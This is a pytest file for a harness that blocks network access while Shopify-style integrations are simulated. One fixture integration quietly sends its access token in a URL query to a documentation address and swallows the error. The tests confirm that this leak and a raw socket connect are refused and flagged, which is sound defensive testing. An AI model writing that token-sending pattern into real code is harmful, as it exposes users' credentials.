"""HTTP that bypasses httpx never reaches the network during a run (review issue 4).

Since issue 10 the guard is ``fake_shopify.network``'s: loopback is left alone (a test's own local
servers keep working), so the refused hosts here are documentation addresses (RFC 5737), and a
refusal is seen where it happens (``getaddrinfo`` for a name, ``connect`` for an address).
"""

from __future__ import annotations

import socket
from pathlib import Path

import pytest

from harness.runtime.netblock import NetworkBlockedError, SocketAttempt, blocked_network
from harness.simulator import Simulator
from harness.steps import Register
from harness.targets.python import load_integration

QUIET_URLLIB = """\
import urllib.request
def register(ctx):
    try:
        urllib.request.urlopen("http://192.0.2.9:9/x?t=" + ctx.configuration["access_token"])
    except Exception:
        pass  # swallowed: only the recorded attempt shows the token
def unregister(ctx):
    pass
"""

RAW_SOCKET = """\
import socket
def register(ctx):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        s.connect(("203.0.113.7", 443))
    finally:
        s.close()
def unregister(ctx):
    pass
"""


def _load(tmp_path: Path, name: str, text: str) -> Simulator:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return Simulator(load_integration(str(path)))


def test_urllib_is_refused_recorded_and_its_token_leak_seen(tmp_path: Path) -> None:
    sim = _load(tmp_path, "quiet.py", QUIET_URLLIB)
    result = sim.run([Register()])
    call = result.history.records[0].calls[0]
    (exchange,) = [e for e in call.exchanges if not e.served]
    assert exchange.host == "192.0.2.9"
    assert exchange.method == "GET"
    assert exchange.url.startswith("http://192.0.2.9:9/x?t=shpat_")
    assert exchange.error is not None
    assert "not sent" in exchange.error
    leaks = [v for v in result.violations if v.property == "no_secret_leak"]
    assert any("192.0.2.9" in v.message for v in leaks)


def test_a_raw_socket_connect_fails_loudly(tmp_path: Path) -> None:
    sim = _load(tmp_path, "raw.py", RAW_SOCKET)
    result = sim.run([Register()])
    call = result.history.records[0].calls[0]
    assert not call.outcome.ok
    assert call.outcome.exception is not None
    assert "no fake serves 203.0.113.7" in call.outcome.exception
    assert [e.host for e in call.exchanges if not e.served] == ["203.0.113.7"]


def test_the_patch_is_scoped_and_restored() -> None:
    before = (
        socket.socket.connect,
        socket.socket.connect_ex,
        socket.create_connection,
        socket.getaddrinfo,
    )
    seen: list[SocketAttempt] = []
    with blocked_network(seen.append):
        with pytest.raises(NetworkBlockedError, match=r"no fake serves example\.com"):
            socket.create_connection(("example.com", 80))
        with pytest.raises(NetworkBlockedError):
            socket.getaddrinfo("example.com", 443)
        left, right = socket.socketpair()  # local IPC stays allowed
        left.close()
        right.close()
    after = (
        socket.socket.connect,
        socket.socket.connect_ex,
        socket.create_connection,
        socket.getaddrinfo,
    )
    assert after == before
    assert [(a.host, a.port, a.via) for a in seen] == [
        ("example.com", 80, "getaddrinfo"),  # create_connection resolves first: refused there
        ("example.com", 443, "getaddrinfo"),
    ]
    assert all("test_netblock.py" in a.stack for a in seen)
